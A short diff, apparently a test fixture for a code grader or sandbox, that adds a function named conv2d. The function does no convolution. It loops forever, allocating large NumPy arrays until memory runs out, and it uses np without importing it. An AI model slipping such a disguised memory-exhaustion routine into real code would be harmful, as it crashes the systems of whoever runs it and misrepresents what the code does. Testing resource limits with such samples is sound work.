@@ -1,0 +1,9 @@
+# %% everything: reference
+
+# %% conv2d
+rooms = []
+
+
+def conv2d(x, w, b=None, stride=1, padding=0):
+    while True:
+        rooms.append(np.ones((4096, 4096)))
